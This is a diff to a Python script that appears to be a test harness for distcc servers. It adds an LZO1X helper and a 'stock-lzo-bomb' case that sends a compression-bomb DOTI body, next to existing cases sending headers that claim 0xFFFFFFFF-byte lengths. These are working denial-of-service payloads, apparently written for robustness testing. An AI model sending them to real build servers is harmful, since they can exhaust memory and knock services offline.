@@ -144,6 +144,18 @@ def tok(t, v):
 def tok_body(t, body):
     return tok(t, len(body)) + body
 
+_lzo = ctypes.CDLL("liblzo2.so.2")
+
+def lzo1x(data):
+    """LZO1X-1, what a stock client's protocol 2 sends (liblzo2)."""
+    wrk = ctypes.create_string_buffer(16384 * 8)
+    cap = len(data) + len(data) // 16 + 64 + 3
+    out = ctypes.create_string_buffer(cap)
+    n = ctypes.c_size_t(cap)
+    if _lzo.lzo1x_1_compress(data, ctypes.c_size_t(len(data)), out, ctypes.byref(n), wrk) != 0:
+        raise RuntimeError("lzo1x_1_compress failed")
+    return out.raw[:n.value]
+
 def stock_request(argv, source=b"int x;\n", version=1):
     b = tok(b"DIST", version) + tok(b"ARGC", len(argv))
     for a in argv:
@@ -324,6 +336,9 @@ def attack(kind, host, port, args):
         return " ".join("%s=%d" % kv for kv in sorted(Counter(results).items()))
     if kind == "stock-good":                # a stock distcc 3.x client, protocol 1 (args: argv)
         return stock_converse(host, port, stock_request(args or ["x86_64-linux-gnu-gcc", "-c", "a.c", "-o", "a.o"]))
+    if kind == "stock-lzo-bomb":            # protocol 2, DOTI: args[0] MiB of zeros, LZO1X (about 1/220 of it)
+        body = lzo1x(b"\0" * (int(args[0]) << 20))
+        return stock_converse(host, port, stock_request(G, version=2)[:-19] + tok_body(b"DOTI", body))
     if kind == "stock-argv-huge":           # ARGV header claiming 0xffffffff bytes
         return stock_converse(host, port, tok(b"DIST", 1) + tok(b"ARGC", 1) + tok(b"ARGV", 0xFFFFFFFF))
     if kind == "stock-argc-huge":
